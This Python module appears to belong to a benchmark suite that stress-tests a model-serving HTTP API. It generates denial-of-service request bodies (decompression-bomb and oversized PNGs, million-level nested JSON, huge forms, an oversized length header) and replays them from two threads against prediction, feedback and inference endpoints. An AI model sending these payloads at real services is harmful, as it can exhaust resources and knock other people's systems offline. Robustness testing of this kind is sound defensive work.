"""Attacks by one whole request: what it says costs more than it looks."""

import base64
import json
import struct
import zlib
from collections.abc import Callable
from typing import Final

from benchmarks.attacks.target import Target

EIGHT_MEGABYTES: Final = 8 * 10**6
Send = Callable[[Target], None]


def _post(path: str, body: Callable[[], bytes], kind: str = "application/json", **headers: str) -> Send:
    """The same request again and again, from two threads."""

    def attack(target: Target) -> None:
        made = body()
        target.again_and_again(lambda: target.post(path, made, kind, **headers), threads=2)

    return attack


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, pixels: bytes, *extra: bytes) -> bytes:
    start = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return start + b"".join(extra) + _chunk(b"IDAT", zlib.compress(pixels, 9)) + _chunk(b"IEND", b"")


def thin_picture() -> bytes:
    """One column of four million rows."""
    return _png(1, 4_000_000, b"\0\0" * 4_000_000)


def thin_pictures() -> bytes:
    """Sixteen of them in one request."""
    return json.dumps({"images": [base64.b64encode(thin_picture()).decode()] * 16}).encode()


def packed_texts(count: int) -> Callable[[], bytes]:
    """A picture with texts that unpack to a megabyte each."""

    def made() -> bytes:
        text = _chunk(b"zTXt", b"k\0\0" + zlib.compress(b"x" * 2**20, 1))
        return _png(28, 28, b"\0" * 29 * 28, *[text] * count)

    return made


def unknown_keys() -> bytes:
    """Labels with 900 unknown keys each."""
    one = "{" + ",".join(f'"{number}":0' for number in range(900)) + "}"
    return ('{"feedback":[' + ",".join([one] * (EIGHT_MEGABYTES // (len(one) + 1))) + "]}").encode()


def small_lists() -> bytes:
    """Two million pictures of one pixel."""
    return ('{"images":[' + ",".join(["[[1]]"] * (EIGHT_MEGABYTES // 6)) + "]}").encode()


def one_picture_of_lists() -> bytes:
    """One picture of two million rows."""
    return ('{"image":[' + ",".join(["[1]"] * (EIGHT_MEGABYTES // 4)) + "]}").encode()


def deep_lists() -> bytes:
    """Lists within lists."""
    return b'{"images":' + b"[" * 4_000_000 + b"]" * 4_000_000 + b"}"


def many_outputs() -> bytes:
    """256 pictures, and one of the outputs asked for 150 000 times."""
    image = {"name": "image", "datatype": "FP32", "shape": [256, 1, 28, 28], "data": [0] * (256 * 784)}
    outputs = [{"name": "probabilities"}] * 150_000
    return json.dumps({"inputs": [image], "outputs": outputs}, separators=(",", ":")).encode()


def deep_tags() -> bytes:
    """A parameter of 100 000 brackets."""
    image = {"name": "image", "datatype": "FP32", "shape": [1, 1, 28, 28], "data": [0] * 784}
    return json.dumps({"inputs": [image], "parameters": {"tags": "[" * 100_000}}).encode()


def large_field() -> bytes:
    """A form with one text of 800 KB."""
    return b'--X\r\nContent-Disposition: form-data; name="client_id"\r\n\r\n' + b"a-" * 400_000 + b"\r\n--X--\r\n"


def many_parts() -> bytes:
    """A form of as many parts as fit."""
    part = b'--X\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
    return part * (EIGHT_MEGABYTES // len(part)) + b"--X--\r\n"


INFER: Final = "/v2/models/digits/infer"
ATTACKS: Final[dict[str, Send]] = {
    "many_outputs": _post(INFER, many_outputs),
    "unknown_keys": _post("/v1/feedback", unknown_keys),
    "small_lists": _post("/v1/predict", small_lists),
    "explained_lists": _post("/v1/explain", one_picture_of_lists),
    "deep_lists": _post("/v1/predict", deep_lists),
    "thin_picture": _post("/v1/predict", thin_picture, "image/png"),
    "thin_pictures": _post("/v1/predict", thin_pictures),
    "packed_texts": _post("/v1/predict", packed_texts(13), "image/png"),
    "many_packed_texts": _post("/v1/predict", packed_texts(90), "image/png"),
    "punycode_form": _post("/v1/predict", large_field, "multipart/form-data; boundary=X; charset=punycode"),
    "undefined_form": _post("/v1/predict", large_field, "multipart/form-data; boundary=X; charset=undefined"),
    "many_parts": _post("/v1/predict", many_parts, "multipart/form-data; boundary=X"),
    "long_length": _post(INFER, lambda: b"{}", **{"inference-header-content-length": "9" * 5000}),
    "deep_tags": _post(INFER, deep_tags),
}
